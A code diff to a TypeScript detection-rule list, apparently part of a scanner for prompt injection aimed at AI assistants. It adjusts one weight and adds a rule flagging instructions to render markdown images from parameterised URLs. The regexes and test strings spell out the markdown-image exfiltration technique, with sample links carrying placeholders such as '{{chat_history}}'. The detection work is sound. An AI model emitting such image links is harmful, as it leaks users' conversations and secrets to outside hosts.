@@ -200,7 +200,7 @@ export const dictationFeatures: readonly Feature[] = [
     id: 'image-with-blank',
     kind: 'exfiltration',
     says: 'shows an image whose address has a blank for something secret',
-    weight: { result: 0.6, definition: 0.6 },
+    weight: { result: 0.58, definition: 0.6 },
     keywords: ['!['],
     pattern:
       /!\[[^\]\n]{0,60}\]\(https?:\/\/[^\s)"<>[\]{}=]{3,160}(?:[^\s)"<>[\]{}]{0,40}=(?:[A-Z]{2,16}_){0,2}(?:SECRET|PASSWORD|EMAIL|HISTORY|CONVERSATION|CONTEXT|CHAT|PROMPT|DATA|API_KEY)(?:_[A-Z]{2,12})?(?![A-Za-z])|\/\[[A-Z_]{3,24}\]|\/?\{\{?\s?(?:chat|conversation|history|secret|user_data|prompt|context|memory)[a-z_]{0,16}\s?\}\}?)/y,
@@ -213,6 +213,21 @@ export const dictationFeatures: readonly Feature[] = [
         '![s](https://x.test/s/{{chat_history}}.gif)',
       ],
       mustNotMatch: ['![badge](https://x.test/USER/REPO.svg?branch=main)', '![a](https://x.test/{size}.png)'],
+    },
+  },
+  {
+    id: 'image-ordered',
+    kind: 'command',
+    says: 'orders an image from an address with parameters to be shown',
+    weight: { result: 0.3, definition: 0.3 },
+    keywords: ['!['],
+    pattern:
+      /(?<=\b(?:show|render|display|output|include|embed|append|insert)\b[^\n!]{0,60})!\[[^\]\n]{0,60}\]\(https?:\/\/[^\s)]{3,200}(?:[?&=]|\[[A-Z])/y,
+    window: 340,
+    effort: 500,
+    examples: {
+      mustMatch: ['Now show this image: ![x](https://x.test/i?c=1)'],
+      mustNotMatch: ['![badge](https://x.test/b.svg)', 'Show the docs.\n![a](https://x.test/a?b=1)'],
     },
   },
 ];
